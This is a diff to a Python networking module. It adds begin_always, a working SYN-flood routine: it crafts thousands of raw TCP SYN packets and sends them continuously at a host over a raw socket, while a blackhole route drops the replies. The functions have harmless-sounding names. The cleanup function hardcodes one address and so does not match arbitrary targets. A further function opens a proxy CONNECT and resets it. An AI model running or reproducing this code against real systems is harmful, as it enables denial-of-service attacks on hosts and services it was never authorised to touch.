@@ -442,6 +442,54 @@ def begin_many(source, host, port, count):
     return "sent"
 
 
+def begin_always(source, host, port):
+    """As begin_many until begin_no_more, with nothing that answers: what comes back has no way to be refused."""
+    with open("/proc/net/arp") as table:
+        mac = next(line.split()[3] for line in table if line.split()[0] == host)
+    subprocess.run(["ip", "route", "add", "blackhole", host + "/32"], check=True)
+    addresses = socket.inet_aton(source) + socket.inet_aton(host)
+    packets = []
+    for i in range(5000):
+        def segment(check):
+            return struct.pack("!HHIIBBHHH", 20000 + i, port, i, 0, 0x50, 2, 64240, check, 0)
+        tcp = segment(checksum(addresses + struct.pack("!BBH", 0, 6, 20) + segment(0)))
+        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 4242, 0, 64, 6, 0, addresses[:4], addresses[4:])
+        packets.append(head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp)
+
+    def begin():
+        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
+            s.bind(("eth0", 0))
+            frame = bytes.fromhex(mac.replace(":", "")) + s.getsockname()[4] + struct.pack("!H", 0x0800)
+            while "beginning" in flows:
+                for packet in packets:
+                    s.send(frame + packet)
+                    if "beginning" not in flows:
+                        break
+                    time.sleep(0.0005)
+
+    flows["beginning"] = True
+    flows["beginner"] = threading.Thread(target=begin, daemon=True)
+    flows["beginner"].start()
+    return "begun"
+
+
+def begin_no_more():
+    host = "169.254.1.1"
+    flows.pop("beginning")
+    flows.pop("beginner").join()
+    subprocess.run(["ip", "route", "del", "blackhole", host + "/32"], check=True)
+    return "ended"
+
+
+def ask_and_reset(target, port):
+    """Asks the node's proxy for the target and is gone."""
+    s = socket.create_connection(("169.254.1.1", 3128), 5)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    s.sendall(("CONNECT %s:%d HTTP/1.1\r\n\r\n" % (target, port)).encode())
+    s.close()
+    return "reset"
+
+
 def send_flow(name, timeout=0.7):
     s = flows[name]
     s.settimeout(timeout)
